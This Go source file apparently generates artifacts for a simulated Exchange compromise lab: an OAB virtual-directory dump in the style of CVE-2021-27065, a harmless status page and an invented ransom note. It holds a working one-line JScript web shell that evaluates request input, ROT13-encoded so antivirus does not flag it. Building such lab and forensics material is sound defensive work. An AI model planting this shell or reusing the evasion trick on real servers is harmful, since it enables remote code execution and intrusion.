package lab

import (
	"fmt"
	"strings"
	"time"
)

// turned undoes a rotation by 13 letters: script is kept that way in the
// source and the binary, so that antivirus does not take them for a shell.
func turned(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

// shellScript is the one-line script of the 2021 wave with an own key.
func shellScript(key string) string {
	return turned(`<fpevcg ynathntr="WFpevcg" ehang="freire">shapgvba Cntr_Ybnq(){riny(Erdhrfg["`) + key + turned(`"],"hafnsr");}</fpevcg>`)
}

// vdirDump is a Get-OabVirtualDirectory dump, which is what CVE-2021-27065
// writes as a page; with script in address it is a web shell.
func vdirDump(s *server, address, guid string, changed time.Time) []byte {
	const form = "1/2/2006 3:04:05 PM"
	local := changed.Add(time.Hour)
	dn := "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" + s.name + ",CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=" + s.netbios + ",CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=" + strings.ReplaceAll(s.domain, ".", ",DC=")
	var b strings.Builder
	for _, l := range [][2]string{
		{"Name", "OAB (Default Web Site)"}, {"PollInterval", "480"}, {"OfflineAddressBooks", ""}, {"RequireSSL", "True"}, {"BasicAuthentication", "False"},
		{"WindowsAuthentication", "True"}, {"OAuthAuthentication", "False"}, {"MetabasePath", "IIS://" + s.fqdn() + "/W3SVC/1/ROOT/OAB"},
		{"Path", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB`}, {"ExtendedProtectionTokenChecking", "None"}, {"ExtendedProtectionFlags", ""},
		{"ExtendedProtectionSPNList", ""}, {"AdminDisplayVersion", fmt.Sprintf("Version %d.%d (Build %d.%d)", s.build[0], s.build[1], s.build[2], s.build[3])},
		{"Server", s.name}, {"InternalUrl", "https://" + s.fqdn() + "/OAB"}, {"InternalAuthenticationMethods", "WindowsIntegrated"}, {"ExternalUrl", address},
		{"ExternalAuthenticationMethods", "WindowsIntegrated"}, {"AdminDisplayName", ""}, {"ExchangeVersion", "0.10 (14.0.100.0)"}, {"DistinguishedName", dn},
		{"Identity", s.name + `\OAB (Default Web Site)`}, {"Guid", guid}, {"ObjectCategory", s.domain + "/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"},
		{"ObjectClass", "top"}, {"", "msExchVirtualDirectory"}, {"", "msExchOABVirtualDirectory"}, {"WhenChanged", local.Format(form)}, {"WhenCreated", local.AddDate(-2, 0, 0).Format(form)},
		{"WhenChangedUTC", changed.Format(form)}, {"WhenCreatedUTC", changed.AddDate(-2, 0, 0).Format(form)}, {"OrganizationId", ""},
		{"Id", s.name + `\OAB (Default Web Site)`}, {"OriginatingServer", "dc01." + s.domain}, {"IsValid", "True"},
	} {
		sep := ": "
		if l[0] == "" {
			sep = "  "
		}
		fmt.Fprintf(&b, "%-32s%s%s\r\n", l[0], sep, l[1])
	}
	return []byte(b.String())
}

// statusPage is an innocent page of the administrator.
func statusPage() []byte {
	return []byte("<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\nvoid Page_Load(object sender, EventArgs e) {\r\n    Stand.Text = DateTime.Now.ToString(\"dd.MM.yyyy HH:mm\");\r\n    Server_Name.Text = Environment.MachineName;\r\n}\r\n</script>\r\n" +
		"<html><head><title>Rathaus Steinfurt am See: Serverstatus</title></head>\r\n<body><p>Stand: <asp:Label id=\"Stand\" runat=\"server\" /></p><p><asp:Label id=\"Server_Name\" runat=\"server\" /></p></body></html>\r\n")
}

// ransomNote is the note of an invented gang.
func ransomNote() []byte {
	return []byte("!!! ALL YOUR FILES ARE ENCRYPTED !!!\r\n\r\nYour network was penetrated. Your files, backups and mail have been encrypted and copied.\r\n" +
		"Only we have the decryption key. Do not rename files, do not use third party software.\r\n\r\nTo get your files back write to:\r\n    key@lockbureau.example\r\n" +
		"and send this id: 7F3A-11C0-55E2\r\nYou must pay in bitcoin. After 5 days the price doubles and your data will be published.\r\n")
}
